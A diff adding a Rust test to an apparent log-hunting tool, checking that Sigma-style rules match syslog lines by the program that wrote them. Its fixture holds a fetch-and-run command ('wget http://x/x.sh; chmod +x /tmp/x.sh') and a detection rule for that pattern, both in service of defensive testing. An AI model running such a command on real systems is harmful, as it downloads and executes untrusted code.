@@ -327,6 +327,82 @@ fn output_into_a_closed_pipe_ends_quietly() {
     }
 }
 
+/// Plain syslog files (auth.log, gzip or piped too) meet the Linux rules of the program that
+/// wrote each line: an sshd rule fires on sshd's lines, not on cron's saying the same; a rule
+/// for any Linux log on every line; `--logsource` says otherwise for the whole file.
+#[test]
+fn hunt_reads_syslog_as_the_linux_logs_their_programs_write() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    std::fs::write(
+        rules.join("sshd.yml"),
+        "title: SSHD Error\nid: sshd\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  keywords:\n    - 'Corrupted MAC on input'\n  condition: keywords\nlevel: medium\n",
+    )
+    .unwrap();
+    std::fs::write(
+        rules.join("shell.yml"),
+        "title: Download And Run\nid: shell\nlogsource:\n  product: linux\ndetection:\n  keywords:\n    - '*wget *; chmod +x*'\n  condition: keywords\nlevel: high\n",
+    )
+    .unwrap();
+    let log = "\
+Dec 10 06:55:46 LabSZ sshd[24200]: Corrupted MAC on input.
+Dec 10 06:55:47 LabSZ CRON[1]: Corrupted MAC on input.
+<13>1 2026-12-01T08:00:00Z LabSZ bash 99 - - wget http://x/x.sh; chmod +x /tmp/x.sh
+";
+    let file = dir.path().join("auth.log");
+    std::fs::write(&file, log).unwrap();
+    let rules = rules.to_str().unwrap();
+    let found = |out: std::process::Output| -> Vec<(String, u64)> {
+        jsonl(&ok(out))
+            .iter()
+            .map(|h| {
+                (
+                    h["rule_id"].as_str().unwrap().to_owned(),
+                    h["record_id"].as_u64().unwrap(),
+                )
+            })
+            .collect()
+    };
+    let hunt = |input: &str, extra: &[&str]| {
+        let mut args = vec!["hunt", "-r", rules, "--format", "jsonl"];
+        args.extend_from_slice(extra);
+        args.push(input);
+        let mut command = crate::support::vigil();
+        command.args(args);
+        command
+    };
+    let by_program = [("sshd".to_owned(), 1), ("shell".to_owned(), 3)];
+    assert_eq!(
+        found(hunt(file.to_str().unwrap(), &[]).output().unwrap()),
+        by_program
+    );
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    std::io::Write::write_all(&mut gz, log.as_bytes()).unwrap();
+    assert_eq!(
+        found(output_with_input(&mut hunt("-", &[]), gz.finish().unwrap())),
+        by_program
+    );
+    // Declared for the whole file: every line is sshd's.
+    let declared = hunt(
+        file.to_str().unwrap(),
+        &["--logsource", "product=linux,service=sshd"],
+    )
+    .output()
+    .unwrap();
+    assert_eq!(
+        found(declared),
+        [
+            ("sshd".to_owned(), 1),
+            ("sshd".to_owned(), 2),
+            ("shell".to_owned(), 3)
+        ]
+    );
+    let hit = &jsonl(&ok(hunt(file.to_str().unwrap(), &[]).output().unwrap()))[0];
+    assert_eq!(hit["event"]["app_name"], "sshd");
+    assert_eq!(hit["event"]["hostname"], "LabSZ");
+}
+
 #[test]
 fn hunt_with_a_declared_logsource_runs_only_the_rules_written_for_it() {
     let dir = tempfile::tempdir().unwrap();
